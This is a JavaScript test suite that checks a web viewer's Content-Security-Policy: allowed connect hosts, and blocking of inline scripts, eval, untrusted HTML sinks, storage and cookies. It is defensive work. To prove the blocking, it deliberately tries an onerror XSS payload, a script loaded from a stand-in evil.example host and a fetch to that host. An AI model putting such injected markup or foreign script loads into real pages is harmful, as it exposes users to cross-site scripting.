// What the page forbids itself: every host it is not connected to, every script and every markup that is not its own.
// The markup's own policy alone has to be enough, for hosts that send none.
import assert from "node:assert/strict";
import { test } from "node:test";
import { openWatched, provokes } from "./support/browser.js";
import { eventually } from "./support/eventually.js";
import { servePlain } from "./support/plain.js";
import { startPages } from "./support/servers.js";
import { setStage } from "./support/stage.js";
import { stored } from "./support/stored.js";
import { drawn, entry, foreign, loaded, press, truth, visit } from "./support/visit.js";

const stage = setStage();
const VENDOR_HOSTS = ["https://api.attent.app", "https://api.leadsail.app", "https://api.naturalead.ai", "https://app.attendee.dev"];

/** The policies that stand in the page's markup, the one of the first script last. */
const policies = (page) =>
  page.locator("meta[http-equiv=Content-Security-Policy]").evaluateAll((all) => all.map((meta) => meta.content));

/** Serves the viewer with no policy as a header. */
async function metaOnly(t, options) {
  const pages = await startPages({ ...options, metaOnly: true });
  t.after(() => pages.stop());
  assert.equal((await fetch(pages.base)).headers.get("content-security-policy"), null);
  return pages;
}

test("the markup's policy comes before everything it is to rule, and forbids what is not named", async () => {
  const html = await (await fetch(stage.pages.base)).text();
  const head = html.slice(html.indexOf("<head>"));
  const [first] = head.match(/<(script|link|style|meta http-equiv)[^>]*>/);
  assert.match(first, /^<meta http-equiv="Content-Security-Policy" content="default-src 'none'; /);
  assert.doesNotMatch(first, /unsafe-inline|'unsafe-eval'|data:|blob:|\*(?!["; ]|:\*)/);
  for (const directive of ["script-src 'self' 'wasm-unsafe-eval'", "style-src 'self'", "base-uri 'none'", "form-action 'none'", "object-src 'none'", "worker-src 'none'", "require-trusted-types-for 'script'", "trusted-types default"]) {
    assert.ok(first.includes(`; ${directive}`), directive);
  }
});

test("with no header the page asks exactly its own host and the vendors, until it is told of others", async (t) => {
  const pages = await metaOnly(t);
  const { page, troubles } = await openWatched(await stage.browser.newContext());
  await page.goto(pages.base);
  await page.getByRole("main").waitFor();
  assert.equal((await policies(page)).at(-1), ["connect-src 'self'", ...VENDOR_HOSTS].join(" "));
  assert.deepEqual(troubles, []);
});

test("of a vendor that the site places elsewhere the policy names that host alone, and what is listed besides", async (t) => {
  const config = { vendors: { apten: { base_url: "https://elsewhere.example/v1" }, leadsail: { base_url: "relay/leadsail" } }, hosts: ["https://listed.example"] };
  const pages = await metaOnly(t, { config });
  const { page, troubles } = await openWatched(await stage.browser.newContext());
  await page.goto(pages.base);
  await page.getByRole("main").waitFor();
  const named = (await policies(page)).at(-1).split(" ");
  const site = new URL(pages.base).origin;
  const expected = ["connect-src", "'self'", ...VENDOR_HOSTS.slice(2), "https://elsewhere.example", "https://listed.example"];
  assert.deepEqual(named.filter((host) => host !== site).sort(), expected.sort());
  assert.deepEqual(troubles, []);
});

test("with no header the main flows work, breach nothing, and ask nobody else", async (t) => {
  const pages = await metaOnly(t, { simulator: stage.simulator });
  const { page, troubles, asked } = await visit(stage);
  await page.goto(`${pages.base}#/lead/${stage.simulator.ready.lead.dossier}?dev=1`);
  await loaded(page);
  const all = (await truth(stage, "demo")).length;
  await eventually(async () => assert.equal(await drawn(page), all));
  await page.getByRole("searchbox", { name: "Search in the entries" }).fill("the");
  await press(entry(page, "Reached a person behind call screening").getByRole("link", { name: "Open call" }));
  const pane = page.getByRole("complementary", { name: "Details" });
  await pane.getByText("Passed call screening").first().waitFor();
  for (const name of [/^Requests/, "Connections", "Leads"]) {
    await page.getByRole("navigation", { name: "Pages" }).getByRole("link", { name }).click();
    await page.getByRole("heading", { level: 1 }).waitFor();
  }
  assert.deepEqual(troubles, []);
  const own = { ...stage, pages };
  assert.deepEqual(foreign(own, asked), []);
});

test("what is not the page's own does not run, is not drawn and is not asked, also without a header", async (t) => {
  provokes();
  const pages = await metaOnly(t);
  const { page } = await openWatched(await stage.browser.newContext());
  await page.goto(pages.base);
  await page.getByRole("main").waitFor();
  const came = await page.evaluate(async () => {
    const breaches = [];
    document.addEventListener("securitypolicyviolation", (event) => breaches.push(event.effectiveDirective));
    const attempt = (act) => {
      try {
        act();
        return "done";
      } catch (error) {
        return error.name;
      }
    };
    const box = document.createElement("div");
    document.body.append(box);
    const script = document.createElement("script");
    const results = {
      image: attempt(() => (box.innerHTML = "<img src=x onerror='window.ran = 1'>")),
      // A whole element of the page's own with something behind it, and a part of one.
      more: attempt(() => (box.innerHTML = "<span>Leadwake</span><b>x</b>")),
      part: attempt(() => (box.innerHTML = "<span>Leadwake")),
      plain: attempt(() => (box.innerHTML = "nothing but words")),
      outer: attempt(() => (box.outerHTML = "<p>x</p>")),
      adjacent: attempt(() => box.insertAdjacentHTML("beforeend", "<p>x</p>")),
      written: attempt(() => document.write("<p>x</p>")),
      parsed: attempt(() => new DOMParser().parseFromString("<p>x</p>", "text/html")),
      source: attempt(() => (script.src = "https://evil.example/x.js")),
      text: attempt(() => (script.text = "window.ran = 1")),
      anotherPolicy: attempt(() => trustedTypes.createPolicy("mine", { createHTML: (text) => text })),
      theSamePolicy: attempt(() => trustedTypes.createPolicy("default", { createHTML: (text) => text })),
      own: attempt(() => (box.innerHTML = "<span>Leadwake</span>")),
    };
    // Not at once: what a test tells the page to do may evaluate text, and what comes later may not.
    const later = (act) => new Promise((resolve) => setTimeout(() => resolve(attempt(act))));
    results.eval = await later(() => (0, eval)("window.ran = 1"));
    results.function = await later(() => new Function("window.ran = 1")());
    const inline = document.createElementNS("http://www.w3.org/1999/xhtml", "button");
    inline.setAttribute("style", "color: red");
    document.body.append(inline);
    const refused = await fetch("https://evil.example/").catch((error) => error.name);
    await new Promise((resolve) => setTimeout(resolve));
    return { results, refused, breaches: [...new Set(breaches)], ran: window.ran, drawn: box.innerHTML };
  });
  const { own, ...others } = came.results;
  assert.equal(own, "done", "the page's own markup is refused");
  for (const [name, result] of Object.entries(others)) assert.match(result, /^(TypeError|EvalError)$/, name);
  assert.equal(came.refused, "TypeError");
  assert.equal(came.ran, undefined);
  assert.equal(came.drawn, "<span>Leadwake</span>");
  for (const directive of ["connect-src", "require-trusted-types-for", "style-src-attr"]) {
    assert.ok(came.breaches.includes(directive), `${directive} is not told: ${came.breaches}`);
  }
});

test("no service worker, no cookie, no storage that nobody chose", async () => {
  const { page, context } = await visit(stage);
  await page.goto(`${stage.pages.base}#/demo`);
  await loaded(page);
  // A frame without an origin cannot have one, and may not even ask.
  const workers = () => page.evaluate(async () => (origin === "null" ? 0 : (await navigator.serviceWorker.getRegistrations()).length));
  assert.equal(await workers(), 0);
  assert.deepEqual(await context.cookies(), []);
  const found = Object.values(await stored(page)).join("");
  assert.ok(["{}{}[][]", "[]", ""].includes(found), found);
});

test("a browser without Trusted Types shows the page as well", async (t) => {
  const { page, troubles } = await openWatched(await stage.browser.newContext());
  await page.addInitScript(() => delete window.trustedTypes);
  // Such a browser does not know these words of the policy, either.
  const known = await (await fetch(stage.pages.base)).text();
  const unknown = known.replace(/; require-trusted-types-for 'script'; trusted-types default/, "");
  assert.notEqual(unknown, known);
  const host = await servePlain({ more: { "/": unknown } });
  t.after(() => host.stop());
  await page.goto(`${host.base}#/demo`);
  await loaded(page);
  assert.deepEqual(troubles, []);
});
